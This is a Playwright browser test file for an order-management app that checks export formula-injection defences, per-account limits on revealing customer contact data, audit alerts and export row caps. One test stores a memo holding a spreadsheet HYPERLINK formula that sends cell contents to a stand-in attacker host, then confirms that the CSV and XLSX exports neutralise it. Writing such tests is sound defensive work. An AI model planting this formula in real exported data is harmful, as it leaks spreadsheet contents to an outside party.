/**
 * Issue 18, items 5 and 6, in the browser against the production build:
 * - a spreadsheet formula in a memo reaches the CSV export neutralised (a leading quote, the cell
 *   quoted) and the XLSX export as a plain string cell;
 * - the owner lowers the per-account reveal limit under 设置; customer service's next 查看 past it
 *   is refused with the translated message saying when it frees up; the owner's audit page shows
 *   the alert and the limit.hit entry;
 * - the export dialog states the row cap before the download and refuses a view over it, as the
 *   route does.
 * Every limit changed here is set back to the defaults before the test ends.
 */
import { readFileSync } from "node:fs";
import { expect, test, type Browser, type Page } from "@playwright/test";
import ExcelJS from "exceljs";
import { DEFAULT_LIMITS } from "../lib/auth/limit-defaults";
import { parseCsv } from "../test/csv";
import { firstSyncDone, query } from "./fixtures/data";
import { ACCOUNTS, STATE } from "./fixtures/env";

const shopTrade = (where: string) =>
  query<{ tid: string }>(`SELECT t."tid" FROM "Trade" t JOIN "Shop" s ON s."id" = t."shopId" WHERE s."nick" = ? AND ${where} ORDER BY t."created" DESC LIMIT 1 OFFSET 7`, ACCOUNTS.owner)[0]!.tid;

/** The owner sets limits through 设置 → 敏感操作限额 (the fields named, the rest as they are). */
async function setLimits(browser: Browser, values: Record<string, number>): Promise<void> {
  const ctx = await browser.newContext({ storageState: STATE.owner });
  const page = await ctx.newPage();
  await page.goto("/settings");
  const form = page.getByTestId("rate-limits");
  await expect(form).toBeVisible();
  for (const [field, v] of Object.entries(values)) await form.getByTestId(`limit-${field}`).fill(String(v));
  await form.getByTestId("limits-save").click();
  await expect(page.getByText("限额已保存")).toBeVisible();
  await ctx.close();
}

const defaults = { "reveal-user": DEFAULT_LIMITS.actions.reveal.user, exportMaxRows: DEFAULT_LIMITS.exportMaxRows };

test.describe("formula injection in exports", () => {
  test.use({ storageState: STATE.owner });

  test("a memo =HYPERLINK(…) is neutralised in the CSV and a plain string in the XLSX", async ({ page }) => {
    await firstSyncDone(page);
    const tid = shopTrade(`t."status" = 'TRADE_FINISHED'`);
    const memo = `=HYPERLINK("http://evil.example/?d="&A2,"点我") ${Date.now() % 100000}`;
    await page.goto(`/orders/${tid}`);
    await page.getByTestId("memo-input").fill(memo);
    await page.getByTestId("memo-save").click();
    await expect(page.getByText("备注和旗帜已保存到淘宝")).toBeVisible();

    await page.goto(`/orders?q=${tid}`);
    await expect(page.getByTestId("orders-results")).toHaveAttribute("data-view", new RegExp(tid));
    await page.getByTestId("export-open").click();
    await expect(page.getByTestId("export-limits")).toContainText("同一账号一次只能进行一个导出");
    await page.getByTestId("export-csv").check();
    await page.getByTestId("export-per-trade").check();
    const [csvDownload] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-start").click()]);
    const raw = readFileSync((await csvDownload.path())!).subarray(3).toString("utf8");
    const [header, row] = parseCsv(raw);
    expect(row![0]).toBe(`="${tid}"`);
    expect(row![header!.indexOf("卖家备注")]).toBe(`'${memo}`);
    expect(raw).toContain(`"'${memo.replace(/"/g, '""')}"`);

    await page.getByTestId("export-open").click();
    await page.getByTestId("export-xlsx").check();
    const [xlsxDownload] = await Promise.all([page.waitForEvent("download"), page.getByTestId("export-start").click()]);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile((await xlsxDownload.path())!);
    const sheet = wb.worksheets[0]!;
    const head = (sheet.getRow(1).values as unknown[]).slice(1);
    const cell = sheet.getRow(2).getCell(head.indexOf("卖家备注") + 1);
    expect([cell.type, cell.value]).toEqual([ExcelJS.ValueType.String, memo]);
  });
});

test.describe("limits on sensitive actions", () => {
  test("past the owner's reveal limit, customer service is told when it frees up; the audit page alerts the owner", async ({ browser }) => {
    const csId = query<{ id: string }>(`SELECT "id" FROM "User" WHERE "nick" = ?`, ACCOUNTS.cs)[0]!.id;
    const used = query<{ n: number }>(`SELECT COUNT(*) AS n FROM "RateLimitEvent" WHERE "userId" = ? AND "action" = 'reveal' AND "at" > ?`, csId, Date.now() - 3_600_000)[0]!.n;
    await setLimits(browser, { "reveal-user": used + 2 });
    try {
      const cs = await browser.newContext({ storageState: STATE.cs });
      const page = await cs.newPage();
      const tid = shopTrade(`t."oaid" IS NOT NULL AND t."status" = 'WAIT_BUYER_CONFIRM_GOODS'`);
      await page.goto(`/orders/${tid}`);
      await page.getByTestId("reveal-name").click();
      await expect(page.getByTestId("receiver-name-value")).toHaveAttribute("data-revealed", "true");
      await page.getByTestId("reveal-mobile").click();
      await expect(page.getByTestId("receiver-mobile-value")).toHaveAttribute("data-revealed", "true");
      await page.getByTestId("reveal-address").click();
      await expect(page.getByText(new RegExp(`查看收件人信息太频繁了：每个账号每小时最多 ${used + 2} 次。请在 \\d{4}-\\d{2}-\\d{2} \\d{2}:\\d{2}（北京时间）之后再试。`))).toBeVisible();
      await expect(page.getByTestId("receiver-address-value")).not.toHaveAttribute("data-revealed", "true");
      await cs.close();

      const owner = await browser.newContext({ storageState: STATE.owner });
      const audit = await owner.newPage();
      await audit.goto("/settings/audit");
      const alert = audit.getByTestId("limit-alerts");
      await expect(alert).toContainText("过去 24 小时的异常用量");
      await expect(alert.getByTestId("limit-alert-hit")).toContainText(`${ACCOUNTS.cs} 触发了「查看收件人信息（每个字段一次）」的限额 1 次`);
      await expect(alert.getByTestId("limit-alert-volume").filter({ hasText: ACCOUNTS.cs })).toContainText(`上限 ${used + 2}`);
      await audit.goto("/settings/audit?action=limit.hit");
      await expect(audit.getByTestId("audit-log")).toContainText("触发限额");
      await expect(audit.getByTestId("audit-log")).toContainText(ACCOUNTS.cs);
      await owner.close();
    } finally {
      await setLimits(browser, defaults);
    }
  });

  test("the export dialog states the row cap and refuses a view over it before the download; so does the route", async ({ browser }) => {
    const trades = query<{ n: number }>(`SELECT COUNT(*) AS n FROM "Trade" t JOIN "Shop" s ON s."id" = t."shopId" WHERE s."nick" = ?`, ACCOUNTS.owner)[0]!.n;
    expect(trades).toBeGreaterThan(1_000);
    await setLimits(browser, { exportMaxRows: 1_000 });
    try {
      const ctx = await browser.newContext({ storageState: STATE.owner });
      const page: Page = await ctx.newPage();
      await page.goto("/orders");
      await page.getByTestId("export-open").click();
      await expect(page.getByTestId("export-limits")).toContainText("每次最多导出 1000 行");
      await expect(page.getByTestId("export-too-many")).toHaveText("一次最多导出 1000 行，请缩小筛选范围。");
      await expect(page.getByTestId("export-start")).toBeDisabled();
      const res = await page.request.get("/api/orders/export?format=csv&per=trade");
      expect(res.status()).toBe(400);
      expect(((await res.json()) as { error: { fields: Record<string, string[]> } }).error.fields).toEqual({ rows: ["orders.export.tooMany"] });
      await ctx.close();
    } finally {
      await setLimits(browser, defaults);
    }
  });
});
